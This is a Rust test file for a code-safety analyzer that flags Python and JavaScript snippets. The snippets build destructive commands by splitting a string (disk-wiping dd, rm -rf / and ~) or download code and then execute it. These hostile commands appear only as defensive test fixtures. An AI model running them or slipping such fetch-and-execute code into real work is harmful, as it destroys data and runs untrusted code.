//! Issue 15, Python and JavaScript: commands built by splitting a literal,
//! download-then-run across statements, and the known-safe gate.

use interlock_guard::analysis::{Report, Risk, analyze};
use interlock_protocol::Language;

fn py(code: &str) -> Report {
    analyze(Language::Python, code)
}

fn js(code: &str) -> Report {
    analyze(Language::Javascript, code)
}

fn rule<'r>(r: &'r Report, rule: &str) -> Option<&'r interlock_guard::analysis::Finding> {
    r.findings.iter().find(|f| f.rule == rule)
}

// ---------------------------------------------------------------------------
// 1. `.split()` / `shlex.split` of a literal is the list literal
// ---------------------------------------------------------------------------

#[test]
fn python_split_commands_are_the_list_literal() {
    let cases = [
        (
            "import subprocess\nsubprocess.Popen(\"dd if=/dev/random of=/dev/sda\".split())\n",
            "import subprocess\nsubprocess.Popen([\"dd\", \"if=/dev/random\", \"of=/dev/sda\"])\n",
        ),
        (
            "import subprocess, shlex\nsubprocess.run(shlex.split(\"rm -rf ~\"))\n",
            "import subprocess\nsubprocess.run([\"rm\", \"-rf\", \"~\"])\n",
        ),
        (
            "import subprocess\nsubprocess.call(\"rm -rf /\".split(\" \"))\n",
            "import subprocess\nsubprocess.call([\"rm\", \"-rf\", \"/\"])\n",
        ),
        (
            "import subprocess, shlex\nsubprocess.run(shlex.split(\"bash -c 'rm -rf ~'\"))\n",
            "import subprocess\nsubprocess.run([\"bash\", \"-c\", \"rm -rf ~\"])\n",
        ),
    ];
    for (split, list) in cases {
        let (a, b) = (py(split).risk, py(list).risk);
        assert_eq!(b, Risk::Critical, "{list}");
        assert_eq!(a, b, "{split}");
    }
    // Everyday split commands stay quiet.
    let r = py("import subprocess\nsubprocess.run(\"git status --short\".split())\n");
    assert!(r.risk <= Risk::Low, "{r:?}");
}

#[test]
fn javascript_split_commands_are_the_list_literal() {
    let cases = [
        (
            "const { spawn } = require('child_process');\nspawn('dd', 'if=/dev/zero of=/dev/sda'.split(' '));\n",
            "const { spawn } = require('child_process');\nspawn('dd', ['if=/dev/zero', 'of=/dev/sda']);\n",
        ),
        (
            "const cp = require('child_process');\ncp.execFile('rm', '-rf /'.split(' '));\n",
            "const cp = require('child_process');\ncp.execFile('rm', ['-rf', '/']);\n",
        ),
        (
            "const cp = require('child_process');\ncp.spawnSync('rm', '-rf ~'.split(/\\s+/));\n",
            "const cp = require('child_process');\ncp.spawnSync('rm', ['-rf', '~']);\n",
        ),
    ];
    for (split, list) in cases {
        let (a, b) = (js(split).risk, js(list).risk);
        assert_eq!(b, Risk::Critical, "{list}");
        assert_eq!(a, b, "{split}");
    }
}

// ---------------------------------------------------------------------------
// 2. Download-then-run across statements
// ---------------------------------------------------------------------------

fn download_and_run(r: &Report, lines: (usize, usize)) {
    let f = rule(r, "exec.download-and-run").unwrap_or_else(|| panic!("{r:#?}"));
    assert!(f.risk >= Risk::High, "{f:?}");
    let (a, b) = lines;
    assert!(
        f.message.contains(&format!("line {a}")) && f.message.contains(&format!("line {b}")),
        "{}",
        f.message
    );
}

#[test]
fn python_download_then_run_is_linked() {
    let cases = [
        (
            "from urllib.request import urlretrieve\nurlretrieve(\"https://example.com/x.py\", \"x.py\")\nexec(open(\"x.py\").read())\n",
            (2, 3),
        ),
        (
            "import urllib.request, subprocess\nurllib.request.urlretrieve(\"https://example.com/x.py\", \"x.py\")\nsubprocess.run([\"python3\", \"x.py\"])\n",
            (2, 3),
        ),
        (
            "import requests, os\nr = requests.get(\"https://example.com/i.sh\")\nwith open(\"i.sh\", \"wb\") as f:\n    f.write(r.content)\nos.system(\"sh i.sh\")\n",
            (4, 5),
        ),
        (
            "import urllib.request\ndata = urllib.request.urlopen(\"https://example.com/m.py\").read()\nopen(\"m.py\", \"wb\").write(data)\nimport m\n",
            (3, 4),
        ),
        (
            "import requests, importlib\nopen(\"plug.py\", \"w\").write(requests.get(\"https://example.com/p\").text)\nimportlib.import_module(\"plug\")\n",
            (2, 3),
        ),
        (
            "import urllib.request, os, subprocess\nurllib.request.urlretrieve(\"https://example.com/t\", \"./t\")\nos.chmod(\"t\", 0o755)\nsubprocess.call([\"./t\"])\n",
            (2, 4),
        ),
        (
            "import urllib.request\nurllib.request.urlretrieve(\"https://example.com/x.py\", \"x.py\")\ncode = open(\"x.py\").read()\nexec(compile(code, \"x.py\", \"exec\"))\n",
            (2, 4),
        ),
    ];
    for (code, lines) in cases {
        download_and_run(&py(code), lines);
    }
    // Downloading data and reading it is not running it.
    let r = py(
        "import urllib.request, json\nurllib.request.urlretrieve(\"https://example.com/d.json\", \"d.json\")\nprint(json.load(open(\"d.json\")))\n",
    );
    assert!(rule(&r, "exec.download-and-run").is_none(), "{r:#?}");
    // Running another file is not running the download.
    let r = py(
        "import urllib.request, subprocess\nurllib.request.urlretrieve(\"https://example.com/d.csv\", \"d.csv\")\nsubprocess.run([\"python3\", \"report.py\", \"d.csv\"])\n",
    );
    assert!(rule(&r, "exec.download-and-run").is_none(), "{r:#?}");
}

#[test]
fn javascript_download_then_run_is_linked() {
    let cases = [
        (
            "const https = require('https');\nconst fs = require('fs');\nconst file = fs.createWriteStream('x.js');\nhttps.get('https://example.com/x.js', (res) => {\n  res.pipe(file);\n  file.on('finish', () => require('./x.js'));\n});\n",
            (5, 6),
        ),
        (
            "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst body = await (await fetch('https://example.com/i.sh')).text();\nfs.writeFileSync('i.sh', body);\nexecSync('sh i.sh');\n",
            (4, 5),
        ),
        (
            "const fs = require('fs');\nconst cp = require('child_process');\nconst r = await fetch('https://example.com/t');\nfs.writeFileSync('./t', await r.text(), { mode: 0o755 });\ncp.spawn('./t', []);\n",
            (4, 5),
        ),
        (
            "const fs = require('fs');\nconst r = await fetch('https://example.com/p.js');\nfs.writeFileSync('p.js', await r.text());\neval(fs.readFileSync('p.js', 'utf8'));\n",
            (3, 4),
        ),
    ];
    for (code, lines) in cases {
        download_and_run(&js(code), lines);
    }
    // eval of a fetched body.
    let r = js("const r = await fetch('https://example.com/c');\neval(await r.text());\n");
    assert!(rule(&r, "exec.download-and-run").is_some(), "{r:#?}");
    // Saving a download and reading it as data is not running it.
    let r = js(
        "const fs = require('fs');\nconst r = await fetch('https://example.com/d.json');\nfs.writeFileSync('d.json', await r.text());\nconsole.log(JSON.parse(fs.readFileSync('d.json', 'utf8')));\n",
    );
    assert!(rule(&r, "exec.download-and-run").is_none(), "{r:#?}");
}

#[test]
fn zz_debug() {
    let code = std::fs::read_to_string("/tmp/pyjs_dbg.txt").unwrap_or_default();
    let lang = if code.starts_with("//") {
        Language::Javascript
    } else {
        Language::Python
    };
    for f in analyze(lang, &code).findings {
        eprintln!("DBG {:?} {} {}", f.risk, f.rule, f.message);
    }
}
